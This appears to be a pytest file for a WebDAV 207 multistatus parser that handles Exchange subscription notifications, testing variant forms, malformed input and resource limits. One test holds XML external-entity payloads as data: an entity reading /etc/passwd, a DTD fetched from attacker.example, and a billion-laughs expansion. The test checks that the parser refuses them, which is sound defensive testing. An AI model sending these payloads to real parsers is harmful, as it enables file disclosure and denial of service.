"""Bodies of 207 answers: the documented form, other forms, and XML that means harm."""

import pytest

from dissectors.notify.multistatus import MAX_BODY_BYTES, MAX_DEPTH, MAX_ELEMENTS, Part, read_multistatus

# MSDN aa142950 (answer to POLL), host and ids changed
DOCUMENTED = b"""<?xml version="1.0"?>
<a:multistatus xmlns:b="http://schemas.microsoft.com/Exchange/" xmlns:a="DAV:">
 <a:response>
  <a:href>http://be1.corp.example/exchange/anna/Inbox</a:href>
  <a:status>HTTP/1.1 200 OK</a:status>
  <b:subscriptionID><li>17</li></b:subscriptionID>
 </a:response>
 <a:response>
  <a:href>http://be1.corp.example/exchange/anna/Calendar</a:href>
  <a:status>HTTP/1.1 204 No Content</a:status>
  <b:subscriptionID><li>18</li><li>19</li></b:subscriptionID>
 </a:response>
</a:multistatus>"""
INBOX = Part(200, ("17",), "http://be1.corp.example/exchange/anna/Inbox", None)


def test_documented_form() -> None:
    parts, odd = read_multistatus(DOCUMENTED)
    assert odd is None
    assert parts == (INBOX, Part(204, ("18", "19"), "http://be1.corp.example/exchange/anna/Calendar", None))


@pytest.mark.parametrize(
    "change",
    [
        (b"b:subscriptionID", b"a:subscriptionID"),  # the other namespace that descriptions give
        (b"subscriptionID", b"SubscriptionID"),
        (b"<li>17</li>", b"17"),
        (b"<a:status>HTTP/1.1 200 OK</a:status>", b"<a:propstat><a:status>HTTP/1.1 200 OK</a:status></a:propstat>"),
        (b"<li>17</li>", b"<!-- one --><li> 17\n</li>"),
    ],
)
def test_other_forms_mean_the_same(change: tuple[bytes, bytes]) -> None:
    parts, odd = read_multistatus(DOCUMENTED.replace(*change))
    assert (parts[0], odd) == (INBOX, None)


def test_content_location_is_read() -> None:
    more = DOCUMENTED.replace(b"<li>17</li></b:sub", b"<li>17</li></b:sub", 1).replace(
        b"</a:response>", b"<b:contentlocation>http://be1/x</b:contentlocation></a:response>", 1
    )
    assert read_multistatus(more)[0][0].content_location == "http://be1/x"


@pytest.mark.parametrize(
    ("body", "code", "parts"),
    [
        (b"", "webdav_multistatus_bad", 0),
        (b"no xml", "webdav_multistatus_bad", 0),
        (b"<a:multistatus/>", "webdav_multistatus_bad", 0),  # prefix without namespace
        (b"<html/>", "webdav_multistatus_bad", 0),
        (DOCUMENTED[:-30], "webdav_multistatus_bad", 1),  # cut: the part that was whole is kept
        (DOCUMENTED + b"rubbish", "webdav_multistatus_bad", 2),
        (DOCUMENTED.replace(b">17<", b">a b<"), "webdav_bad_header", 2),
        (b" " * (MAX_BODY_BYTES + 1), "webdav_multistatus_limit", 0),
    ],
)
def test_odd_body_is_noted_and_what_is_whole_is_kept(body: bytes, code: str, parts: int) -> None:
    found, odd = read_multistatus(body)
    assert odd is not None
    assert (odd.code, len(found)) == (code, parts)


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE a [<!ENTITY x "y">]>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
        b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',  # a billion laughs begin so
        b'<!DOCTYPE a [<!ENTITY % p "q"> %p;]>',
        b"<!DOCTYPE a>",
    ],
)
def test_document_types_and_entities_are_refused(declaration: bytes) -> None:
    body = DOCUMENTED.replace(b"<a:multi", declaration + b"<a:multi", 1).replace(b">17<", b">&x;<")
    parts, odd = read_multistatus(body)
    assert parts == ()
    assert odd is not None
    assert odd.code == "webdav_multistatus_refused"


def test_undeclared_entity_ends_the_reading() -> None:
    parts, odd = read_multistatus(DOCUMENTED.replace(b">18<", b">&x;<"))
    assert parts == (INBOX,)
    assert odd is not None
    assert odd.code == "webdav_multistatus_bad"


def test_depth_and_number_of_elements_are_limited() -> None:
    deep = b"<multistatus>" + b"<x>" * MAX_DEPTH + b"</x>" * MAX_DEPTH + b"</multistatus>"
    many = b"<multistatus>" + b"<x/>" * MAX_ELEMENTS + b"</multistatus>"
    for body in (deep, many):
        _, odd = read_multistatus(body)
        assert odd is not None
        assert odd.code == "webdav_multistatus_limit"


def test_announced_encoding_does_not_matter() -> None:
    body = DOCUMENTED.replace(b'"1.0"?', b'"1.0" encoding="x-no-such-thing"?')
    assert read_multistatus(body)[0][0] == INBOX


def test_utf_16_is_told_by_its_first_bytes() -> None:
    assert read_multistatus(DOCUMENTED.decode().encode("utf-16")) == read_multistatus(DOCUMENTED)
